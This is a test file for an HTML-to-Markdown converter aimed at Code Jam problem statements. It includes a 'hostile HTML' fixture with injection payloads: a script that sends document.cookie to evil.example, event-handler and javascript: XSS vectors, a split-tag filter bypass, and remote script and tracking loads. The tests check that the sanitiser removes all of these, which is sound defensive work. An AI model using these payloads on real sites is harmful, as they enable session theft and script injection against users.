import { describe, expect, test } from "bun:test";
import { htmlToMarkdown } from "./html-to-markdown.ts";

const resolveImage = (path: string) => (path.includes("missing") ? null : `images/${path.split("/").pop()}`);
const convert = (html: string) => htmlToMarkdown(html, resolveImage);
const md = (html: string) => convert(html).markdown.trim();

describe("htmlToMarkdown", () => {
  test("the first <h1> is the title; other headings become ## / ###", () => {
    const result = convert(
      "<h3>Code Jam 2021</h3><h1>Closest Pick</h1><h3>Problem</h3><p>Text.</p><h4>Test Set 1</h4>",
    );
    expect(result.title).toBe("Closest Pick");
    expect(result.markdown).toBe("## Code Jam 2021\n\n## Problem\n\nText.\n\n### Test Set 1\n");
  });

  test("paragraphs, white space, bold, italic, line breaks", () => {
    expect(md("<p>\n  Two   <b>W</b>\n  and <em>H</em>.<br/>Next line.\n</p><p>Second.</p>")).toBe(
      "Two **W** and *H*.\\\nNext line.\n\nSecond.",
    );
  });

  test("lists, also inside a paragraph (as Code Jam writes them), and nested", () => {
    expect(md("<p>Algorithm:<ul><li>one</li><li>two<ol><li>a</li></ol></li></ul></p>")).toBe(
      "Algorithm:\n\n- one\n- two\n\n  1. a",
    );
  });

  test("code spans and pre blocks keep their text; MathJax math in <code> stays math", () => {
    expect(md("<code>Case #x: y</code> and <pre>4\n1 2\n</pre>")).toBe(
      "`Case #x: y` and\n\n```\n4\n1 2\n```",
    );
    expect(md("<code>Case #$$$x$$$: $$$y$$$</code>")).toBe("`Case #`$x$`:` $y$");
  });

  test("MathJax math is kept as $…$ / $$…$$, entities decoded inside it", () => {
    expect(md("<p>$$$1 &le; \\mathbf{N} &lt; 10^9$$$ and \\(a\\) and $$$$\\sum_i x_i$$$$</p>")).toBe(
      "$1 ≤ \\mathbf{N} < 10^9$ and $a$ and\n\n$$\n\\sum_i x_i\n$$",
    );
    // Without a MathJax configuration that says so, a lone dollar sign is a dollar sign.
    expect(md("<p>It costs $5 or $6.</p>")).toBe("It costs \\$5 or \\$6.");
    expect(md("<script>MathJax.Hub.Config({tex2jax: {inlineMath: [['$','$']]}})</script><p>$x$</p>")).toBe(
      "$x$",
    );
  });

  test("<sup> and <sub> become math", () => {
    expect(md("10<sup>-5</sup> and x<sub>1</sub>")).toBe("10$^{-5}$ and x$_{1}$");
    // A digit right after `$…$` would make it a price on the site: the digits join the math.
    expect(md("log<sub>2</sub>10 = 3.3")).toBe("log$_{2}10$ = 3.3");
    expect(md("at most log<sub>2</sub>10<sup>9</sup> guesses")).toBe("at most log$_{2}10^{9}$ guesses");
  });

  test("tables become GFM tables", () => {
    expect(
      md("<table><thead><tr><th>N</th><th>Points</th></tr></thead><tr><td>1</td><td>a|b</td></tr></table>"),
    ).toBe("| N | Points |\n| --- | --- |\n| 1 | a\\|b |");
  });

  test("package images are collected; a missing one keeps its alt text", () => {
    expect(md('<img src="img/closest_pick.png" style="max-width:550px;" alt="Two piles">')).toBe(
      "![Two piles](images/closest_pick.png)",
    );
    expect(md('<img src="img/missing.png" alt="Gone">')).toBe("*Gone*");
  });

  test("a malformed attribute does not turn the tag into text", () => {
    expect(
      md('<a href="https://en.wikipedia.org/wiki/Hill_climbing" target-"_blank">hill climbing</a>'),
    ).toBe("[hill climbing](<https://en.wikipedia.org/wiki/Hill_climbing>)");
  });

  test("links: http(s) kept, package-relative links keep their text", () => {
    expect(md('<a href="https://codejam.withgoogle.com/faq">FAQ</a>')).toBe(
      "[FAQ](<https://codejam.withgoogle.com/faq>)",
    );
    expect(md('<a href="local_testing_tool.py" download>Download testing tool</a>')).toBe(
      "Download testing tool",
    );
  });

  test("Code Jam's sample widgets lose their buttons, keep their text", () => {
    const html =
      '<div class="sample-header"><div class="sample-header-text">Sample Input</div><div class="sample-header-download-button"><a href="x.txt"><i class="material-icons grey">save_alt</i></a></div><div class="sample-header-copy-button" onclick="copy()"><span>Copied!</span></div></div><pre>1</pre>';
    expect(md(html)).toBe("Sample Input\n\n```\n1\n```");
  });

  describe("hostile HTML", () => {
    const hostile = `
      <html><head><style>body { background: url(https://evil.example/track.png) }</style>
      <script>fetch("https://evil.example/steal?c=" + document.cookie)</script></head>
      <body onload="alert(1)">
        <p onclick="alert(2)">Safe <b onmouseover="alert(3)">text</b>.</p>
        <img src="x.png" onerror="alert(4)" alt="pic">
        <img src="https://evil.example/pixel.gif" alt="tracker">
        <img src="//evil.example/p.gif">
        <img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="inline">
        <a href="javascript:alert(5)">click me</a>
        <a href="JaVaScRiPt:alert(6)">and me</a>
        <iframe src="https://evil.example/frame"><p>frame fallback</p></iframe>
        <object data="evil.swf">obj</object>
        <form action="https://evil.example"><input name="x" value="typed"><button>Send</button></form>
        <svg onload="alert(7)"><script>alert(8)</script></svg>
        <p>a &lt;script&gt;alert(9)&lt;/script&gt; as text</p>
        <scr<script>ipt>alert(10)</script>
        <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
        <p>end</p>
      </body></html>`;
    const result = convert(hostile);

    test("no script, style, frame, form, handler or remote load survives", () => {
      const { markdown } = result;
      for (const gone of ["alert(1)", "alert(2)", "alert(3)", "alert(4)", "alert(7)", "alert(8)"])
        expect(markdown).not.toContain(gone);
      expect(markdown).not.toMatch(
        /evil\.example|javascript:|onerror|onclick|onload|(?<!\\)<(iframe|script|style)|data:image/i,
      );
      expect(markdown).not.toContain("frame fallback");
      // `<scr<script>ipt>` is one tag named `scr<script`, for browsers too: what follows is escaped text, no script.
      expect(markdown).toContain("ipt\\>alert(10)");
      expect(markdown).not.toContain("typed");
      // Nothing in the output is HTML at all: a literal "<" is escaped, so it renders as text.
      expect(markdown).not.toMatch(/(?<!\\)</);
    });

    test("the statement's own text, images and escaped markup remain", () => {
      expect(result.markdown).toContain("Safe **text**.");
      expect(result.markdown).toContain("![pic](images/x.png)");
      expect(result.markdown).toContain("*tracker*");
      expect(result.markdown).toContain("click me");
      expect(result.markdown).toContain("and me");
      expect(result.markdown).toContain("a \\<script\\>alert(9)\\</script\\> as text");
      expect(result.markdown).toContain("end");
    });

    test("each removal is a warning that names it", () => {
      const warnings = result.warnings.join("\n");
      for (const tag of ["<script>", "<iframe>", "<object>", "<form>", "<svg>"])
        expect(warnings).toContain(tag);
      expect(warnings).toContain("https://evil.example/pixel.gif");
      expect(warnings).toContain("//evil.example/p.gif");
      expect(warnings).toContain("javascript:alert(5)");
    });
  });

  test("pathological markup: deep nesting is flattened with a warning, a tag cut off by the end is dropped", () => {
    const deep = convert(`${"<div><b>".repeat(10000)}deep text`);
    expect(deep.markdown).toContain("deep text");
    expect(deep.warnings.join()).toContain("nested more than 200 elements");
    expect(md(`text <img src="x.png" alt="never closed`)).toBe("text");
    expect(md("<a b ".repeat(1000))).toBe("");
  });
});
